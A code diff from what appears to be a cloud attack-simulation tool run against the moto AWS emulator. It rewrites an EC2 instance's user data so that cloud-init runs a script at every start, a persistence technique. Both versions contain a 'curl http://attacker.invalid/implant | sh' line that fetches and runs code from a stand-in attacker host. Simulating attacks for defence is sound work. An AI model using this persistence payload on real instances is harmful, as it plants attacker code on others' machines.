@@ -11,8 +11,10 @@ use super::moves::{Played, alive, error_text};
 use super::scenario::{InstanceSeed, Move, MoveKind};
 use super::seed::ATTACKER_ACCOUNT;
 
-/// What `modify_user_data` puts on an instance: a script for its next start.
-const ATTACKER_USER_DATA: &str = "#!/bin/sh\n# tabletop attacker: runs at the next start\ncurl -s http://attacker.invalid/implant | sh\n";
+/// What `modify_user_data` puts on an instance: as in the Stratus
+/// technique, a MIME multipart whose cloud-config makes cloud-init run the
+/// script at every start (a plain script runs only at the first launch).
+const ATTACKER_USER_DATA: &str = "Content-Type: multipart/mixed; boundary=\"//\"\nMIME-Version: 1.0\n\n--//\nContent-Type: text/cloud-config; charset=\"us-ascii\"\n\ncloud_final_modules:\n- [scripts-user, always]\n\n--//\nContent-Type: text/x-shellscript; charset=\"us-ascii\"\n\n#!/bin/sh\n# tabletop attacker\ncurl -s http://attacker.invalid/implant | sh\n--//--\n";
 
 /// The bucket seeded flow logs deliver to.
 const FLOW_LOG_BUCKET: &str = "tabletop-flow-logs";
@@ -164,9 +166,8 @@ async fn rewrite_user_data(ec2: &aws_sdk_ec2::Client, id: &str) -> Result<(), St
         .send()
         .await
         .map_err(|e| error_text(&e))?;
-    // The value is the base64 of the script, as the EC2 CLI reference's
-    // modify-instance-attribute example has it (moto requires it too); the
-    // SDK then encodes the blob on the wire.
+    // moto wants the value itself base64 (it decodes the wire's blob, then
+    // the value); this only ever runs against the emulator.
     let encoded = aws_smithy_types::base64::encode(ATTACKER_USER_DATA);
     let data = aws_smithy_types::Blob::new(encoded.into_bytes());
     ec2.modify_instance_attribute()
